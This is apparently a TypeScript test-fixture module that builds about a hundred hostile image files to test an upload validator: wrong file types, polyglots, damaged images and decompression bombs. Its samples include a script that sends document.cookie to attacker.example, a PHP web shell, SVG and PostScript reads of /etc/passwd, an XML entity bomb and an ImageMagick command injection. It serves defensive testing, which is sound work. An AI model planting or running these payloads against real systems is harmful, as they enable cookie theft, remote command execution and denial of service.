import { crc32, deflateSync, gzipSync } from 'node:zlib';
import sharp, { type Sharp } from 'sharp';

export type HostilePicture = { readonly name: string; readonly bytes: Buffer };

const text = (value: string) => Buffer.from(value, 'latin1');
const SCRIPT = "<script>fetch('https://attacker.example/' + document.cookie)</script>";
const SVG = `<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9">${SCRIPT}</svg>`;

/** Creates a picture of random pixels, so that every part of its file has a meaning. */
export function noise(width: number, height: number): Sharp {
  return sharp({
    create: { width, height, channels: 3, background: '#888', noise: { type: 'gaussian', mean: 128, sigma: 40 } },
  });
}

function plain(width: number, height: number): Sharp {
  return sharp({ create: { width, height, channels: 3, background: '#808080' } });
}

/** Creates files that are no pictures of an accepted type. No decoder sees them. */
export async function foreignFiles(): Promise<HostilePicture[]> {
  return [
    ['SVG with a script', text(SVG)],
    ['SVG after an XML declaration', text(`<?xml version="1.0"?>\n${SVG}`)],
    ['SVG after a byte order mark', Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), text(SVG)])],
    [
      'SVG that reads a file',
      text('<svg xmlns:x="http://www.w3.org/1999/xlink"><image x:href="file:///etc/passwd"/></svg>'),
    ],
    [
      'SVG with an entity bomb',
      text(`<!DOCTYPE s [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;">]><svg>&b;</svg>`),
    ],
    ['compressed SVG', gzipSync(SVG)],
    ['page', text(`<!doctype html>${SCRIPT}`)],
    ['PHP', text('<?php system($_GET["c"]);')],
    ['GIF', await plain(8, 8).gif().toBuffer()],
    ['GIF with JavaScript', Buffer.concat([text('GIF89a/*'), Buffer.alloc(40), text('*/=1;alert(1)')])],
    ['TIFF', await plain(8, 8).tiff().toBuffer()],
    ['BMP', Buffer.concat([text('BM'), Buffer.alloc(60)])],
    ['Photoshop', Buffer.concat([text('8BPS\0\x01'), Buffer.alloc(40)])],
    ['PostScript', text('%!PS-Adobe-3.0 EPSF-3.0\n(/etc/passwd) (r) file')],
    ['ImageMagick script', text('push graphic-context\nfill \'url(https://127.0.0.1/x.jpg"|ls "-la)\'')],
    ['PDF', text('%PDF-1.7\n1 0 obj <</OpenAction 2 0 R>>')],
    ['ZIP', zip()],
    ['program', Buffer.concat([text('\x7fELF\x02\x01\x01'), Buffer.alloc(64)])],
    ['MP4', Buffer.concat([text('\0\0\0\x18ftypmp42\0\0\0\0mp42isom'), Buffer.alloc(64)])],
    ['HEIC', Buffer.concat([text('\0\0\0\x18ftypheic\0\0\0\0mif1heic'), Buffer.alloc(64)])],
    ['JPEG 2000', Buffer.concat([text('\0\0\0\x0cjP  \r\n\x87\n'), Buffer.alloc(64)])],
    ['JPEG XL', Buffer.concat([Buffer.from([0xff, 0x0a]), Buffer.alloc(64)])],
    ['icon', Buffer.concat([Buffer.from([0, 0, 1, 0, 1, 0]), Buffer.alloc(64)])],
    ['text', text('a picture')],
    ['zeros', Buffer.alloc(5_000)],
    ['one byte', Buffer.from([0xff])],
    ['animated PNG', await animatedPng()],
  ].map(([name, bytes]) => ({ name, bytes }) as HostilePicture);
}

/** Creates pictures that another program reads as something else. */
export async function polyglots(): Promise<HostilePicture[]> {
  const jpg = await noise(64, 64).jpeg().toBuffer();
  const png = await noise(64, 64).png().toBuffer();
  const webp = await noise(64, 64).webp().toBuffer();
  const avif = await noise(64, 64).avif({ effort: 0 }).toBuffer();
  return [
    ...[jpg, png, webp, avif].flatMap((bytes, index) => {
      const name = ['JPEG', 'PNG', 'WebP', 'AVIF'][index];
      return [
        { name: `${name} with a ZIP at its end`, bytes: Buffer.concat([bytes, zip()]) },
        { name: `${name} with a page at its end`, bytes: Buffer.concat([bytes, text(`<html>${SCRIPT}`)]) },
        { name: `${name} with PHP at its end`, bytes: Buffer.concat([bytes, text('<?PHP phpinfo();')]) },
      ];
    }),
    { name: 'JPEG with a page in a comment', bytes: withComment(jpg, `--><html>${SCRIPT}`) },
    { name: 'JPEG with a PDF in a comment', bytes: withComment(jpg, '%PDF-1.7\n1 0 obj') },
    { name: 'PNG with a page in a text', bytes: withChunk(png, 'tEXt', text(`Title\0${SCRIPT}`)) },
  ];
}

/** Creates pictures without their end, and with damage. */
async function damagedPictures(): Promise<HostilePicture[]> {
  const files = {
    JPEG: await noise(400, 300).jpeg().toBuffer(),
    'progressive JPEG': await noise(400, 300).jpeg({ progressive: true }).toBuffer(),
    PNG: await noise(400, 300).png().toBuffer(),
    'interlaced PNG': await noise(400, 300).png({ progressive: true }).toBuffer(),
    WebP: await noise(400, 300).webp().toBuffer(),
    AVIF: await noise(400, 300).avif({ effort: 0 }).toBuffer(),
  };
  const cut = Object.entries(files).flatMap(([name, bytes]) =>
    [0.05, 0.3, 0.6, 0.75, 0.9, 0.99].map((part) => ({
      name: `${name} cut at ${Math.round(part * 100)} %`,
      bytes: bytes.subarray(0, Math.floor(bytes.length * part)),
    })),
  );
  return [
    ...cut,
    { name: 'PNG with a wrong checksum of its data', bytes: damaged(files.PNG, 0.5) },
    { name: 'PNG without data', bytes: png({ width: 100, height: 100, data: Buffer.alloc(0) }) },
    {
      name: 'PNG with too little data',
      bytes: png({ width: 1_000, height: 1_000, data: deflateSync(Buffer.alloc(10)) }),
    },
    { name: 'PNG of no pixels', bytes: png({ width: 0, height: 10, data: deflateSync(Buffer.alloc(10)) }) },
    {
      name: 'PNG with a wrong color type',
      bytes: png({ width: 9, height: 9, color: 5, data: deflateSync(Buffer.alloc(99)) }),
    },
    { name: 'JPEG of headers only', bytes: files.JPEG.subarray(0, 200) },
    { name: 'WebP with a wrong length', bytes: withLength(files.WebP, 4, 20) },
    { name: 'AVIF with its items outside of the file', bytes: files.AVIF.subarray(0, 400) },
    { name: 'AVIF sequence', bytes: withBrand(files.AVIF, 'avis') },
    { name: 'PNG with a chunk that is longer than the file', bytes: withLength(files.PNG, 33, 0x7f) },
    {
      name: 'JPEG with a segment that is longer than the file',
      bytes: withComment(files.JPEG, 'x'.repeat(9), 65_000).subarray(0, 500),
    },
    { name: 'AVIF of a header only', bytes: text('\0\0\0\x1cftypavif\0\0\0\0avifmif1miaf') },
  ];
}

/** Creates small files that decode into very much, or have sides without end. */
async function bombs(): Promise<HostilePicture[]> {
  const header = await plain(64, 64).jpeg().toBuffer();
  return [
    {
      name: 'PNG of 50,000 x 50,000',
      bytes: png({ width: 50_000, height: 50_000, data: deflateSync(Buffer.alloc(1e6)) }),
    },
    {
      name: 'PNG of 2,147,483,647 x 1',
      bytes: png({ width: 2_147_483_647, height: 1, data: deflateSync(Buffer.alloc(1e6)) }),
    },
    { name: 'PNG of 4,294,967,295 x 4,294,967,295', bytes: png({ width: -1, height: -1, data: Buffer.alloc(9) }) },
    { name: 'PNG of 1 x 60,000', bytes: png({ width: 1, height: 60_000, data: deflateSync(Buffer.alloc(240_000)) }) },
    {
      name: 'PNG of 15,000 x 15,000, all there',
      bytes: await plain(15_000, 15_000).png({ compressionLevel: 9 }).toBuffer(),
    },
    { name: 'interlaced PNG of 7,000 x 7,000', bytes: await plain(7_000, 7_000).png({ progressive: true }).toBuffer() },
    {
      name: 'interlaced PNG with 16 bits',
      bytes: await sharp({ create: { width: 4_500, height: 4_500, channels: 4, background: '#888' } })
        .toColourspace('rgb16')
        .png({ progressive: true })
        .toBuffer(),
    },
    { name: 'JPEG of 65,500 x 65,500', bytes: withJpegSize(header, 65_500, 65_500) },
    { name: 'JPEG of 65,500 x 1', bytes: withJpegSize(header, 65_500, 1) },
    { name: 'JPEG that says 7,000 x 7,000', bytes: withJpegSize(header, 7_000, 7_000) },
    {
      name: 'progressive JPEG of 6,500 x 6,500',
      bytes: await plain(6_500, 6_500).jpeg({ progressive: true, chromaSubsampling: '4:4:4' }).toBuffer(),
    },
    {
      name: 'WebP of 16,000 x 16,000',
      bytes: await plain(16_000, 16_000).webp({ lossless: true, effort: 0 }).toBuffer(),
    },
    { name: 'animated WebP', bytes: await animatedWebp(40) },
    { name: 'AVIF of 8,000 x 6,000', bytes: await plain(8_000, 6_000).avif({ effort: 0 }).toBuffer() },
    { name: 'AVIF of 3,000 x 3,000', bytes: await plain(3_000, 3_000).avif({ effort: 0 }).toBuffer() },
  ];
}

/** Creates pictures with metadata that would take 300 MB. Decoders ignore it, so these pictures are accepted. */
export function metadataBombs(): HostilePicture[] {
  const whole = png({ width: 9, height: 9, data: deflateSync(Buffer.alloc(9 * 28)) });
  return [
    { name: 'PNG with a text of 300 MB', bytes: withChunk(whole, 'zTXt', bigText()) },
    { name: 'PNG with a color profile of 300 MB', bytes: withChunk(whole, 'iCCP', bigText()) },
  ];
}

/** Creates about a hundred files of all kinds. */
export async function hostilePictures(): Promise<HostilePicture[]> {
  return [...(await foreignFiles()), ...(await polyglots()), ...(await damagedPictures()), ...(await bombs())];
}

function chunk(type: string, data: Buffer): Buffer {
  const body = Buffer.concat([text(type), data]);
  const length = Buffer.alloc(4);
  length.writeUInt32BE(data.length);
  const sum = Buffer.alloc(4);
  sum.writeUInt32BE(crc32(body));
  return Buffer.concat([length, body, sum]);
}

function png({
  width,
  height,
  data,
  color = 2,
}: {
  width: number;
  height: number;
  data: Buffer;
  color?: number;
}): Buffer {
  const header = Buffer.alloc(13);
  header.writeUInt32BE(width >>> 0, 0);
  header.writeUInt32BE(height >>> 0, 4);
  header.set([8, color, 0, 0, 0], 8);
  const end = chunk('IEND', Buffer.alloc(0));
  return Buffer.concat([text('\x89PNG\r\n\x1a\n'), chunk('IHDR', header), chunk('IDAT', data), end]);
}

/** Returns a PNG with another chunk after its header. */
function withChunk(file: Buffer, type: string, data: Buffer): Buffer {
  return Buffer.concat([file.subarray(0, 33), chunk(type, data), file.subarray(33)]);
}

function bigText(): Buffer {
  return Buffer.concat([text('Title\0\0'), deflateSync(Buffer.alloc(300_000_000), { level: 9 })]);
}

function withComment(file: Buffer, comment: string, claimed = comment.length + 2): Buffer {
  const length = Buffer.alloc(2);
  length.writeUInt16BE(claimed);
  return Buffer.concat([file.subarray(0, 2), Buffer.from([0xff, 0xfe]), length, text(comment), file.subarray(2)]);
}

function withJpegSize(file: Buffer, width: number, height: number): Buffer {
  const changed = Buffer.from(file);
  const frame = changed.indexOf(Buffer.from([0xff, 0xc0]));
  changed.writeUInt16BE(height, frame + 5);
  changed.writeUInt16BE(width, frame + 7);
  return changed;
}

function withLength(file: Buffer, offset: number, length: number): Buffer {
  const changed = Buffer.from(file);
  changed.writeUInt32LE(length, offset);
  return changed;
}

function withBrand(file: Buffer, brand: string): Buffer {
  const changed = Buffer.from(file);
  changed.write(brand, 8, 'latin1');
  return changed;
}

function damaged(file: Buffer, part: number): Buffer {
  const changed = Buffer.from(file);
  changed.fill(0x55, Math.floor(file.length * part), Math.floor(file.length * part) + 40);
  return changed;
}

/** Creates an archive with one empty file. */
function zip(): Buffer {
  const local = Buffer.concat([text('PK\x03\x04'), Buffer.alloc(26), text('a')]);
  const central = Buffer.concat([text('PK\x01\x02'), Buffer.alloc(42), text('a')]);
  return Buffer.concat([local, central, text('PK\x05\x06'), Buffer.alloc(18)]);
}

async function animatedPng(): Promise<Buffer> {
  const file = await plain(8, 8).png().toBuffer();
  return withChunk(file, 'acTL', Buffer.from([0, 0, 0, 2, 0, 0, 0, 0]));
}

async function animatedWebp(frames: number): Promise<Buffer> {
  const height = 16;
  const all = Buffer.alloc(16 * height * frames * 3, 0).map((_, index) => index % 251);
  return await sharp(all, { raw: { width: 16, height: height * frames, channels: 3, pageHeight: height } })
    .webp({ loop: 0, delay: Array(frames).fill(50) })
    .toBuffer();
}
